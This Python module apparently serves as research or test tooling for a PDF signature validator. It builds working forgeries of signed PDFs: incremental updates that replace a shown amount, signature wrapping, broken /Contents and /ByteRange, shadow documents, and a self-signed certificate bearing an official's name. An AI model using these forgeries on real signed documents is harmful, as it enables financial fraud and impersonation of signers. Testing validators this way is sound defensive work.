"""Forged and altered PDFs built from a document we signed (research §1.4, Appendix A).

Each function takes the bytes of a signed PDF and returns an attacked copy: incremental
updates that change what a page shows, signature wrapping, universal signature forgery
(broken /Contents or /ByteRange, a CMS without its certificate), shadow documents, bytes
appended after the last revision, and extra signatures. Pure byte work: no files, no network.
"""

from __future__ import annotations

import io
import re
from datetime import UTC, datetime, timedelta
from typing import Any

from asn1crypto import cms
from asn1crypto import keys as asn1_keys
from asn1crypto import pem as asn1_pem
from asn1crypto import x509 as asn1_x509
from cryptography import x509 as cx509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers
from pyhanko.sign.fields import MDPPerm, SigFieldSpec
from pyhanko.stamp import TextStampStyle

EVIL = b"BT /F1 14 Tf 72 700 Td (Monto: 9,999,999.00 MXN) Tj ET"
_BYTE_RANGE = rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]"


def _writer(signed: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)


def _first_page(writer: IncrementalPdfFileWriter) -> tuple[Any, Any]:
    reference = writer.root["/Pages"]["/Kids"].raw_get(0)
    return reference.get_object(), reference


def _out(writer: IncrementalPdfFileWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _numbers(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.NumberObject(v) for v in values])


def _helvetica() -> generic.DictionaryObject:
    return generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Helvetica"),
        }
    )


def _byte_range(data: bytes) -> tuple[re.Match[bytes], tuple[int, int, int, int]]:
    match = list(re.finditer(_BYTE_RANGE, data))[-1]
    a, b, c, d = (int(x) for x in match.groups())
    return match, (a, b, c, d)


# --- incremental updates that change what a page shows (ISA) ----------------------------------


def isa_replace_contents(signed: bytes) -> bytes:
    """Incremental update: page 1 gets a new content stream (a new amount)."""
    writer = _writer(signed)
    page, _ = _first_page(writer)
    page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=EVIL))
    writer.update_container(page)
    return _out(writer)


def isa_overlay(signed: bytes) -> bytes:
    """Incremental update: a second content stream paints a white box and new text."""
    writer = _writer(signed)
    page, _ = _first_page(writer)
    overlay = b"q 1 1 1 rg 70 690 300 20 re f Q " + EVIL
    page["/Contents"] = generic.ArrayObject(
        [page.raw_get("/Contents"), writer.add_object(generic.StreamObject(stream_data=overlay))]
    )
    writer.update_container(page)
    return _out(writer)


def isa_add_page(signed: bytes) -> bytes:
    """Incremental update: a whole new page is appended."""
    writer = _writer(signed)
    pages = writer.root["/Pages"]
    resources = generic.DictionaryObject(
        {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): _helvetica()})}
    )
    new_page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/Parent"): writer.root.raw_get("/Pages"),
            pdf_name("/MediaBox"): _numbers(0, 0, 612, 792),
            pdf_name("/Resources"): resources,
            pdf_name("/Contents"): writer.add_object(generic.StreamObject(stream_data=EVIL)),
        }
    )
    pages["/Kids"].append(writer.add_object(new_page))
    pages["/Count"] = generic.NumberObject(int(pages["/Count"]) + 1)
    writer.update_container(pages)
    return _out(writer)


def isa_freetext_annot(signed: bytes) -> bytes:
    """Incremental update: a FreeText annotation whose opaque appearance covers the text."""
    writer = _writer(signed)
    _, page_ref = _first_page(writer)
    appearance = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): _numbers(0, 0, 300, 18),
            pdf_name("/Resources"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/Helv"): _helvetica()})}
            ),
        },
        stream_data=b"1 1 1 rg 0 0 300 18 re f BT 0 0 0 rg /Helv 14 Tf 2 4 Td "
        b"(Monto: 9,999,999.00 MXN) Tj ET",
    )
    annotation = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): _numbers(70, 700, 370, 718),
            pdf_name("/Contents"): generic.TextStringObject("x"),
            pdf_name("/DA"): generic.TextStringObject("/Helv 14 Tf 0 g"),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/P"): page_ref,
            pdf_name("/AP"): generic.DictionaryObject(
                {pdf_name("/N"): writer.add_object(appearance)}
            ),
        }
    )
    writer.register_annotation(page_ref, writer.add_object(annotation))
    return _out(writer)


# --- shadow documents ---------------------------------------------------------------------------


def shadow_prepare(unsigned: bytes) -> bytes:
    """Before signing: hide a second content stream in the file, reachable but not shown."""
    writer = IncrementalPdfFileWriter(io.BytesIO(unsigned), strict=False)
    hidden = writer.add_object(generic.StreamObject(stream_data=EVIL))
    writer.root["/DocservicePrueba"] = hidden
    writer.update_root()
    return _out(writer)


def shadow_reveal(signed: bytes) -> bytes:
    """After signing: an update that only points page 1 at the hidden stream."""
    writer = _writer(signed)
    page, _ = _first_page(writer)
    page["/Contents"] = writer.root.raw_get("/DocservicePrueba")
    writer.update_container(page)
    return _out(writer)


# --- signature wrapping and universal signature forgery ----------------------------------------


def swa_wrapping(signed: bytes) -> bytes:
    """CCS'19 signature wrapping: the signed tail moved, a malicious object in the gap.

    The signature dictionary is closed inside the unsigned hole with a forged /ByteRange that
    still hashes to the original digest; a fresh xref at the end makes the file readable.
    """
    _, (a, b, c, d) = _byte_range(signed)
    head, hole, tail = signed[:b], signed[b:c], signed[c:]
    evil = b"99 0 obj\n<< /Length %d >>\nstream\n" % len(EVIL) + EVIL + b"\nendstream\nendobj\n"

    def injected(moved_to: int) -> bytes:
        return (b"\n/ByteRange [%d %d %d %d] /Type /Sig >>\nendobj\n" % (a, b, moved_to, d)) + evil

    moved_to = c
    for _ in range(5):
        moved_to = c + len(injected(moved_to))
    body = head + hole + injected(moved_to) + tail
    offsets = {int(m.group(1)): m.start() for m in re.finditer(rb"(?m)^(\d+) (\d+) obj", body)}
    size = max(offsets) + 1
    root = re.findall(rb"/Root\s+(\d+\s+\d+\s+R)", signed)[-1]
    rows = [
        b"%010d 00000 n \n" % offsets[i] if i in offsets else b"0000000000 65535 f \n"
        for i in range(1, size)
    ]
    xref = b"xref\n0 %d\n0000000000 65535 f \n" % size + b"".join(rows)
    trailer = b"trailer\n<< /Size %d /Root %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        root,
        len(body) + 1,
    )
    return body + b"\n" + xref + trailer


def _contents_hole(signed: bytes) -> tuple[bytearray, int, int]:
    data = bytearray(signed)
    _, (_, b, c, _) = _byte_range(signed)
    return data, b + 1, c - 1  # inside the < >


def usf_zero_contents(signed: bytes) -> bytes:
    """/Contents all zeros (same length)."""
    data, start, end = _contents_hole(signed)
    data[start:end] = b"0" * (end - start)
    return bytes(data)


def usf_empty_contents(signed: bytes) -> bytes:
    """/Contents <> with the hole padded with spaces."""
    data, start, end = _contents_hole(signed)
    data[start - 1 : end + 1] = b"<>" + b" " * (end - start)
    return bytes(data)


def usf_garbage_contents(signed: bytes) -> bytes:
    """/Contents valid hex that is not DER."""
    data, start, end = _contents_hole(signed)
    data[start:end] = (b"DEADBEEF" * ((end - start) // 8 + 1))[: end - start]
    return bytes(data)


def _rewrite_byte_range(signed: bytes, replacement: bytes) -> bytes:
    data = bytearray(signed)
    match, _ = _byte_range(signed)
    length = match.end() - match.start()
    data[match.start() : match.end()] = replacement.ljust(length)[:length]
    return bytes(data)


def usf_no_byterange(signed: bytes) -> bytes:
    """The /ByteRange key renamed away."""
    match, _ = _byte_range(signed)
    return _rewrite_byte_range(signed, b"/XyteRange" + match.group(0)[len(b"/ByteRange") :])


def usf_null_byterange(signed: bytes) -> bytes:
    """/ByteRange null."""
    return _rewrite_byte_range(signed, b"/ByteRange null")


def usf_zero_byterange(signed: bytes) -> bytes:
    """/ByteRange [0 0 0 0]."""
    return _rewrite_byte_range(signed, b"/ByteRange [0 0 0 0]")


def usf_no_certificate(signed: bytes) -> bytes:
    """The CMS keeps its signature but loses every certificate."""
    data, start, end = _contents_hole(signed)
    der = bytes.fromhex(bytes(data[start:end]).decode())
    info = cms.ContentInfo.load(der.rstrip(b"\x00") if der else der)
    signed_data = info["content"]
    signed_data["certificates"] = cms.CertificateSet([])
    new_hex = info.dump(force=True).hex().encode()
    data[start:end] = new_hex.ljust(end - start, b"0")
    return bytes(data)


# --- bytes after the last revision --------------------------------------------------------------


def append_without_xref(signed: bytes) -> bytes:
    """An object appended after %%EOF with no xref nor trailer."""
    return (
        signed
        + b"\n4 0 obj\n<< /Length %d >>\nstream\n" % len(EVIL)
        + EVIL
        + b"\nendstream\nendobj\n"
    )


# --- more signatures ----------------------------------------------------------------------------


def untrusted_signer(common_name: str = "EMILIO GONZÁLEZ DÍAZ") -> signers.SimpleSigner:
    """A self-signed certificate with our official's name: an unknown CA."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = cx509.Name([cx509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    now = datetime.now(UTC)
    cert = (
        cx509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(cx509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=365))
        .add_extension(
            cx509.KeyUsage(True, True, False, False, False, False, False, False, False), True
        )
        .sign(key, hashes.SHA256())
    )
    key_pem = key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    cert_pem = cert.public_bytes(serialization.Encoding.PEM)
    _, _, key_der = asn1_pem.unarmor(key_pem)
    _, _, cert_der = asn1_pem.unarmor(cert_pem)
    return signers.SimpleSigner(
        signing_cert=asn1_x509.Certificate.load(cert_der),
        signing_key=asn1_keys.PrivateKeyInfo.load(key_der),
        cert_registry=None,
    )


def counter_sign(
    signed: bytes, signer: signers.Signer, *, field: str = "Firma2", stamp_text: str | None = None
) -> bytes:
    """A later approval signature, invisible or with a visible text stamp over the content."""
    meta = signers.PdfSignatureMetadata(field_name=field)
    spec = SigFieldSpec(field, on_page=0, box=(70, 690, 400, 720)) if stamp_text else None
    style = TextStampStyle(stamp_text=stamp_text) if stamp_text else None
    pdf_signer = signers.PdfSigner(meta, signer=signer, stamp_style=style, new_field_spec=spec)
    out = io.BytesIO()
    pdf_signer.sign_pdf(_writer(signed), output=out)
    return out.getvalue()


def certify_no_changes(unsigned: bytes, signer: signers.Signer) -> bytes:
    """A certification signature that allows no change at all (DocMDP P=1)."""
    meta = signers.PdfSignatureMetadata(
        field_name="Certificacion", certify=True, docmdp_permissions=MDPPerm.NO_CHANGES
    )
    out = io.BytesIO()
    signers.PdfSigner(meta, signer=signer).sign_pdf(_writer(unsigned), output=out)
    return out.getvalue()
